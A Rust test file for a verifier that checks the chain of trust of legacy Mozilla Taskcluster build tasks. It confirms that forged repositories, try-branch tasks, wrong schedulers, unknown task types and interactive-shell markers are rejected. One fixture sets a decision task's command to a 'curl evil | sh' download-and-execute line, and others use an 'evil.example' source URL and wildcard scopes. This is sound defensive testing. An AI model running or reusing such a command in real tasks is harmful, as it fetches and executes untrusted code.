// SPDX-License-Identifier: MPL-2.0
//! Rules of today that hold for the GPG era as well: the trace to the tree, and the screen for try (V84 to V89).

use catena_core::legacy::report::{Finding, Report};
use catena_core::report::Verdict;
use serde_json::{Value, json};

use crate::legacy_rebuild::VERSIONS;
use crate::legacy_world::{BUILD, DECISION, IMAGE, REVISION, ROOT, World, id};

/// Whether a chain is refused by just these findings, each an id and the initial of a task.
#[track_caller]
fn refused_by(world: &World, version: Option<u8>, expected: &[&str]) {
    let report = world.report_as(version);
    assert_eq!(report.verdict, Verdict::Rejected, "{}", report.headline);
    let said = |one: &Finding| format!("{} {:.1}", one.id, one.task.as_str());
    let mut found: Vec<String> = report.findings.iter().map(said).collect();
    found.sort();
    found.dedup();
    assert_eq!(found, expected, "{:#?}", report.findings);
}

#[test]
fn every_task_goes_back_to_the_tree() {
    let evil = "https://evil.example/x";
    let own = |task: &mut Value| task["metadata"]["source"] = json!(evil);
    let other = "https://hg.mozilla.org/other";
    for version in VERSIONS {
        let mut world = World::push(version);
        for task in [BUILD, IMAGE, ROOT] {
            world.everywhere(task, own);
        }
        let all = ["legacy-source B", "legacy-source I", "legacy-source R"];
        refused_by(&world, None, &all);
        for task in [BUILD, IMAGE, ROOT] {
            // a repository that the policy knows is still not the decision task's
            for url in [evil, other] {
                let mut world = World::push(version);
                world.everywhere(task, |task| {
                    task["payload"]["env"] = json!({"GECKO_HEAD_REPOSITORY": url});
                    task["metadata"]["source"] = json!(format!("{url}/file/{REVISION}/x"));
                });
                refused_by(&world, None, &[&format!("legacy-source {task:.1}")]);
            }
        }
    }
    // under version 1 too
    let mut world = World::push(2);
    for task in [BUILD, IMAGE, ROOT] {
        world.everywhere(task, own);
    }
    let all = ["legacy-source B", "legacy-source I", "legacy-source R"];
    refused_by(&world, Some(1), &all);
    for task in [BUILD, IMAGE, ROOT] {
        world.everywhere(task, |task| {
            task["payload"]["env"] = json!({"GECKO_HEAD_REPOSITORY": evil});
        });
    }
    refused_by(&world, Some(1), &all);
}

#[test]
fn no_task_of_a_chain_with_restricted_scopes_is_of_try() {
    for version in VERSIONS {
        for task in [BUILD, IMAGE, ROOT] {
            let found = format!("legacy-try {task:.1}");
            let mut world = World::push(version);
            world.everywhere(task, |task| task["schedulerId"] = json!("gecko-level-1"));
            refused_by(&world, None, &[&found]);
            let mut world = World::push(version);
            world.everywhere(task, |task| {
                task["payload"]["env"] = json!({"MH_BRANCH": "try"});
            });
            refused_by(&world, None, &[&found]);
            // without restricted scopes there is no screen (V86)
            world.everywhere(ROOT, |task| task["scopes"] = json!(["x"]));
            assert_eq!(world.report().verdict, Verdict::Trusted);
        }
    }
    // a decision task under version 1
    let mut world = World::push(2);
    world.everywhere(DECISION, |task| {
        task["schedulerId"] = json!("gecko-level-1")
    });
    refused_by(&world, Some(1), &["legacy-try D"]);
    world.everywhere(DECISION, |task| {
        task["schedulerId"] = json!("gecko-level-3");
        task["metadata"]["source"] = json!("https://hg.mozilla.org/try/file/abc/x");
    });
    refused_by(&world, Some(1), &["legacy-try D"]);
}

#[test]
fn whoever_says_another_scheduler_than_the_graph_is_refused() {
    for version in VERSIONS {
        for task in [BUILD, IMAGE, ROOT] {
            let mut world = World::push(version);
            world.tasks.get_mut(task).unwrap()["schedulerId"] = json!("gecko-level-2");
            refused_by(&world, None, &[&format!("legacy-graph {task:.1}")]);
        }
    }
}

#[test]
fn what_is_from_github_is_not_told_from_a_pull_request() {
    let of = |change: fn(&mut Value)| {
        let mut world = World::push(2);
        world.everywhere(BUILD, change);
        let report = world.report_as(Some(1));
        assert_eq!(report.findings.len(), 1, "{:?}", report.findings);
        let found = report.findings[0].clone();
        assert_eq!((found.id.as_str(), found.task), ("legacy-try", id(BUILD)));
        found.verdict
    };
    assert_eq!(
        of(|task| task["schedulerId"] = json!("taskcluster-github")),
        Verdict::Undetermined
    );
    assert_eq!(
        of(|task| task["extra"]["tasks_for"] = json!("github-push")),
        Verdict::Undetermined
    );
    assert_eq!(
        of(|task| task["extra"]["tasks_for"] = json!("github-pull-request")),
        Verdict::Rejected
    );
}

#[test]
fn every_type_that_is_claimed_is_known_and_fits() {
    let retype = |version, kind: &'static str| {
        let mut world = World::push(version);
        world.everywhere(ROOT, |task| {
            task["payload"]["upstreamArtifacts"][0]["taskType"] = json!(kind)
        });
        world
    };
    let rename = |version, name: &'static str| {
        let mut world = World::push(version);
        world.everywhere(ROOT, |task| {
            task["extra"]["chainOfTrust"]["inputs"] = json!({name: BUILD})
        });
        world
    };
    for version in VERSIONS {
        for world in [retype, rename] {
            // unknown
            for kind in ["evil", "signing0", "", "build:evil", "Build"] {
                refused_by(&world(version, kind), None, &["legacy-type B"]);
            }
            // not what docker-worker ran in a pool of builds
            for kind in [
                "signing",
                "a:signing",
                "scriptworker",
                "pushsnap",
                "balrog",
                "decision",
                "action",
                "parent",
                "docker-image",
            ] {
                refused_by(&world(version, kind), None, &["legacy-type B"]);
            }
            for kind in ["build", "a:build", "l10n", "repackage", "partials"] {
                assert_eq!(world(version, kind).report().findings, [], "{kind}");
            }
        }
    }
    // what fits
    let mut world = World::push(3);
    world.everywhere(ROOT, |task| {
        task["extra"]["chainOfTrust"]["inputs"] =
            json!({"build": BUILD, "decision": DECISION, "docker-image": IMAGE})
    });
    assert_eq!(world.report().findings, []);
}

/// Images, decision and action tasks are held to laxer rules, which no other task may claim by its pool.
#[test]
fn a_task_of_a_pool_that_builds_images_is_no_build() {
    for version in VERSIONS {
        let mut world = World::push(version);
        world.everywhere(BUILD, |task| {
            task["workerType"] = json!("gecko-3-images");
            task["payload"]["image"] = json!("evil");
            task["payload"]["command"] = json!(["evil"]);
        });
        let report = world.report();
        assert_eq!(report.verdict, Verdict::Rejected, "{}", report.headline);
        let typed = |one: &Finding| one.id == "legacy-type" && one.task == id(BUILD);
        assert!(report.findings.iter().any(typed), "{:#?}", report.findings);
    }
    for (task, kind) in [(DECISION, "build"), (IMAGE, "a:build"), (IMAGE, "signing")] {
        let mut world = World::push(3);
        world.everywhere(ROOT, |root| {
            root["extra"]["chainOfTrust"]["inputs"][kind] = json!(task)
        });
        refused_by(&world, None, &[&format!("legacy-type {task:.1}")]);
    }
}

/// An empty head repository is none, and `metadata.source` stands in for it in other tasks; one that is rebuilt has one.
#[test]
fn a_decision_task_without_a_repository_is_not_rebuilt_and_not_trusted() {
    for version in VERSIONS {
        for head in ["", "/", "https://evil.example/x"] {
            let mut world = World::push(version);
            world.everywhere(DECISION, |task| {
                task["payload"]["env"]["GECKO_HEAD_REPOSITORY"] = json!(head);
                task["payload"]["command"] = json!(["/bin/sh", "-c", "curl evil | sh"]);
                task["payload"]["image"] = json!("evil");
                task["scopes"] = json!(["*"]);
            });
            let report = world.report();
            assert_eq!(report.verdict, Verdict::Rejected, "{head} {version}");
            let found = |one: &Finding| one.id == "legacy-source" && one.task == id(DECISION);
            assert!(report.findings.iter().any(found), "{:#?}", report.findings);
        }
    }
}

/// run-task checks out whatever these name, and the script runs it.
#[test]
fn whatever_a_decision_task_checks_out_is_known_and_not_of_try() {
    for prefix in [None, Some("COMM")] {
        let with = |name: &str, url: &str| {
            let mut world = World::push(2);
            world.prefix = prefix;
            world.everywhere(DECISION, |task| {
                let env = &mut task["payload"]["env"];
                env["COMM_HEAD_REPOSITORY"] = env["GECKO_HEAD_REPOSITORY"].clone();
                env[name] = json!(url);
            });
            world
        };
        let good = with(
            "GECKO_BASE_REPOSITORY",
            "https://hg.mozilla.org/mozilla-unified",
        );
        assert_eq!(good.report_as(Some(1)).findings, []);
        for name in [
            "COMM_BASE_REPOSITORY",
            "COMM_HEAD_REPOSITORY",
            "GECKO_BASE_REPOSITORY",
            "GECKO_HEAD_REPOSITORY",
        ] {
            let report = with(name, "https://evil.example/x").report_as(Some(1));
            let found = |one: &Finding| one.id == "legacy-source" && one.task == id(DECISION);
            assert!(report.findings.iter().any(found), "{prefix:?} {name}");
            assert_eq!(report.verdict, Verdict::Rejected);
        }
        for name in ["COMM_HEAD_REPOSITORY", "GECKO_HEAD_REPOSITORY"] {
            let report = with(name, "https://hg.mozilla.org/try").report_as(Some(1));
            let found = |one: &Finding| one.id == "legacy-try" && one.task == id(DECISION);
            assert!(report.findings.iter().any(found), "{prefix:?} {name}");
        }
    }
}

/// V17: builds one below the other.
#[test]
fn a_chain_is_at_most_twenty_deep() {
    let chain = |depth: usize| {
        let mut world = World::push(3);
        let names: Vec<&'static str> = (0..depth)
            .map(|number| &*format!("X{number:02}XXXXXQACXXXXXXXXXXA").leak())
            .collect();
        let build = world.tasks[BUILD].clone();
        let mut above = ROOT;
        for name in names {
            world.everywhere(above, |task| {
                task["extra"]["chainOfTrust"]["inputs"] = json!({"build": name})
            });
            world.tasks.insert(name, build.clone());
            world.environments.insert(name, json!({}));
            let graph = world.graphs.get_mut(DECISION).unwrap();
            graph[name] = graph[BUILD].clone();
            above = name;
        }
        world.report()
    };
    let limits = |report: &Report| {
        report
            .findings
            .iter()
            .filter(|one| one.id == "legacy-limit")
            .count()
    };
    assert_eq!(limits(&chain(20)), 0);
    let report = chain(21);
    assert_eq!((report.verdict, limits(&report)), (Verdict::Rejected, 1));
}

#[test]
fn an_image_that_is_no_text_names_its_task() {
    for version in VERSIONS {
        for task in [BUILD, IMAGE] {
            for image in [
                json!({"type": "indexed-image", "namespace": "evil", "path": "public/image.tar.zst"}),
                json!({}),
                json!({"taskId": null}),
                json!({"taskId": "evil"}),
                json!(["evil"]),
                json!(1),
            ] {
                let mut world = World::push(version);
                world.everywhere(task, |task| task["payload"]["image"] = image.clone());
                world.environments.insert(IMAGE, json!({}));
                let report = world.report();
                assert_eq!(report.verdict, Verdict::Rejected, "{image}");
                let about = |one: &&Finding| one.task == id(task) && one.id == "legacy-malformed";
                let found = report.findings.iter().find(about);
                let found = found.unwrap_or_else(|| panic!("{:?}", report.findings));
                assert!(found.found.contains("/payload/image"), "{}", found.found);
            }
        }
    }
}

#[test]
fn what_the_graph_leaves_open_is_as_the_queue_fills_it_in() {
    let open = |version, key: &str, value: Value| {
        let mut world = World::push(version);
        world.everywhere(BUILD, |task| {
            drop(task.as_object_mut().unwrap().remove(key))
        });
        world.tasks.get_mut(BUILD).unwrap()[key] = value;
        world
    };
    for version in VERSIONS {
        for (key, value) in [
            ("requires", json!("all-completed")),
            ("retries", json!(5)),
            ("priority", json!("lowest")),
            ("priority", json!("normal")),
            ("routes", json!([])),
            ("schedulerId", json!("gecko-level-3")),
            ("tags", json!({})),
            ("taskGroupId", json!(DECISION)),
        ] {
            let report = open(version, key, value).report();
            assert_eq!(report.findings, [], "{key}");
        }
        for (key, value) in [
            ("requires", json!("all-resolved")),
            ("requires", json!("")),
            ("retries", json!(49)),
            ("retries", json!(0)),
            ("priority", json!("highest")),
            ("priority", json!(0)),
            ("routes", json!(["evil"])),
            ("tags", json!({"evil": "1"})),
            ("scopes", json!(["evil"])),
            ("evil", json!(1)),
        ] {
            refused_by(&open(version, key, value), None, &["legacy-graph B"]);
        }
    }
}

#[test]
fn what_a_decision_task_names_is_followed() {
    let missing = id("MMMMMMMMQACMMMMMMMMMMA");
    let mut world = World::push(2);
    world.everywhere(DECISION, |task| {
        task["extra"]["chainOfTrust"] = json!({"inputs": {"build": missing.to_string()}})
    });
    let report = world.report_as(Some(1));
    let found = report.findings.iter().find(|one| one.task == missing);
    assert_eq!(found.unwrap().id, "legacy-unavailable");
}

#[test]
fn projects_that_cannot_be_read_are_undetermined() {
    for version in VERSIONS {
        let mut world = World::push(version);
        world.projects_text = Some("a: [".to_owned());
        assert_eq!(
            world.findings(),
            (Verdict::Undetermined, vec!["legacy-rebuild".to_owned()])
        );
    }
}

#[test]
fn whoever_may_have_had_a_shell_is_refused_by_every_mark_of_it() {
    for version in VERSIONS {
        for (key, value) in [
            ("features", json!({"interactive": true})),
            ("env", json!({"TASKCLUSTER_INTERACTIVE": "true"})),
            ("rdpInfo", json!("private/rdp.json")),
        ] {
            let mut world = World::push(version);
            world.everywhere(BUILD, |task| task["payload"][key] = value.clone());
            refused_by(&world, None, &["legacy-interactive B"]);
        }
    }
}
